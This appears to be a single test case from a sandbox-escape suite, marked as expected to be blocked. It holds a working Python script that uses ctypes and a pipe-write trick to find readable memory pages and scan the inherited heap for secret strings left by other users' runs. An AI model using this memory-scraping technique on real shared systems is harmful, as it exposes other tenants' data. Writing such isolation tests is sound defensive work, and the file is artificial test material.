# expect: blocked
# layers: none
# aim: (sandbox-specific) unrestricted Python scans its own address space for the needle bytes with ctypes, without /proc/self/maps: pages are probed by write()-ing them into a pipe (an unmapped page gives EFAULT instead of a crash), starting around id() of heap objects, the main thread's stack and the interpreter's static data; freed but not overwritten buffers of earlier runs' requests (inherited from the worker at fork time) are found this way even where gc and frames no longer reach them. The test plants a run whose source contains AWAITBOT-SECRET-NEEDLE-<digits> first; the marker is printed only if that needle is found
# marker: ESCAPED-253-2dd7
# family: runs reading other runs (raw memory of the inherited heap)
import ctypes
import os
import re

NEEDLE = re.compile(b"AWAITBOT-SECRET-" + b"NEEDLE-[0-9]+")
PAGE = 4096
CHUNK = 1 << 20
libc = ctypes.CDLL(None, use_errno=True)
libc.write.argtypes = (ctypes.c_int, ctypes.c_void_p, ctypes.c_size_t)
libc.write.restype = ctypes.c_ssize_t
read_end, write_end = os.pipe()
os.set_blocking(write_end, False)


def readable(address):
    result = libc.write(write_end, address, 1)
    if result == 1:
        os.read(read_end, 1)
        return True
    return False


found = set()
starts = {
    id(object) & ~(CHUNK - 1),
    id([]) & ~(CHUNK - 1),
    id(NEEDLE) & ~(CHUNK - 1),
    ctypes.addressof(ctypes.c_int(0)) & ~(CHUNK - 1),
}
seen = set()
for start in sorted(starts):
    for base in range(start - 256 * CHUNK, start + 256 * CHUNK, CHUNK):
        if base <= 0 or base in seen:
            continue
        seen.add(base)
        pages = [a for a in range(base, base + CHUNK, PAGE) if readable(a)]
        for page in pages:
            data = ctypes.string_at(page, PAGE + 64 if page + PAGE in pages else PAGE)
            for hit in NEEDLE.findall(data):
                found.add(hit.decode())
mine = "AWAITBOT-SECRET-" + "NEEDLE-[0-9]+"
found.discard(mine)
if found:
    print("-".join(["ESCAPED", "253", "2dd7"]), sorted(found)[:5])
